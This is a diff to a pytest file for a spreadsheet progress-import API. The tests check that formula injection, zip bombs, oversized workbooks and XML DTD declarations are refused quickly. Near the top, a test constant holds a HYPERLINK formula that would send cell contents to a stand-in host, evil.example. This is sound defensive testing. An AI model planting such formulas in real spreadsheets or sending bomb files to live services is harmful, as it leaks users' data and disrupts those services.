@@ -1,17 +1,30 @@
 """Hostile spreadsheets in and out of the commitment follow-up: text that a spreadsheet would
-run as a formula never comes back out live, and is refused on the way in."""
+run as a formula never comes back out live, and is refused on the way in; zip bombs and XML
+declarations are refused in seconds, before anything is parsed."""
 
 from __future__ import annotations
 
 import csv
 import io
+import time
+from collections.abc import Callable
 from datetime import date
 from typing import Any
 
+import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
 
 from tests.dialogue.conftest import TIEN_LANG, FakeToday, event_types, held_session, ok, take_office
+from tests.xlsxfiles import (
+    bomb_sheet,
+    dtd_in_content_types,
+    dtd_sheet,
+    many_cells_sheet,
+    plain_sheet,
+    wide_row_sheet,
+    workbook,
+)
 
 URL = "/api/v1/commitments/progress-import"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'
@@ -93,3 +106,55 @@ def test_an_imported_note_a_spreadsheet_would_run_is_refused_row_by_row(
     # A note that only looks like a figure, or a lone dash, is plain data.
     plain = "Mã cam kết,Tiến độ (%),Ghi chú\r\n" + f"{ids[0]},10,-5\r\n{ids[1]},10,-\r\n"
     assert ok(_upload(client, "tien-do.csv", plain.encode()))["accepted_rows"] == 2
+
+
+# -- zip bombs and XML declarations -----------------------------------------------------------
+
+HEADER = ["Mã cam kết", "Tiến độ (%)", "Ghi chú"]
+ROW = ["khong-co-ma", "10", ""]
+MiB = 1 << 20
+
+
+@pytest.mark.parametrize(
+    ("build", "code", "detail", "seconds"),
+    [
+        # 20 MiB of sheet XML in ~0.1 MB: past the 13.5 MB budget of a 5,000-row import (the
+        # probe's 0.5 MB bomb held this endpoint 34 s).
+        (lambda: workbook(bomb_sheet(HEADER, ROW, 20 * MiB)), "IMPORT_TOO_LARGE",
+         "uncompressed_bytes", 5),
+        # Within the budget, but inflating ~250-fold.
+        (lambda: workbook(bomb_sheet(HEADER, ROW, 12 * MiB)), "IMPORT_TOO_LARGE", "ratio", 5),
+        (lambda: workbook(wide_row_sheet(HEADER, 20_000), stored=True), "IMPORT_TOO_LARGE",
+         "limit", 5),
+        # Ordinary compression, within the budget: 7,000 rows of 16 cells, more cells than a
+        # 5,000-row import may hold; counted in a streaming pass that builds nothing.
+        (lambda: workbook(many_cells_sheet(HEADER, 7_000, 16)), "IMPORT_TOO_LARGE", "limit",
+         15),
+        (lambda: workbook(dtd_sheet(HEADER, ROW)), "IMPORT_UNREADABLE", None, 5),
+        (lambda: dtd_in_content_types(HEADER, ROW), "IMPORT_UNREADABLE", None, 5),
+    ],
+    ids=["bomb-size", "bomb-ratio", "wide-row", "many-cells", "dtd-in-sheet",
+         "dtd-in-content-types"],
+)
+def test_hostile_workbooks_are_refused_in_seconds_before_parsing(
+    client: TestClient, build: Callable[[], bytes], code: str, detail: str | None,
+    seconds: float,
+) -> None:
+    content = build()
+    baseline = len(event_types(client))
+    started = time.perf_counter()
+    response = _upload(client, "bom.xlsx", content)
+    elapsed = time.perf_counter() - started
+    assert response.status_code == 422, response.text
+    error = response.json()["error"]
+    assert error["code"] == code and not error["message"].isascii()
+    if detail:
+        assert detail in error["details"]
+    assert elapsed < seconds, f"{elapsed:.1f} s"
+    assert len(event_types(client)) == baseline
+
+
+def test_the_same_workbook_without_the_trick_is_read(client: TestClient) -> None:
+    dry = _upload(client, "tien-do.xlsx", workbook(plain_sheet(HEADER, ROW)), dry_run="true")
+    assert dry.status_code == 200, dry.text
+    assert [e["code"] for e in dry.json()["errors"]] == ["COMMITMENT_NOT_FOUND"]
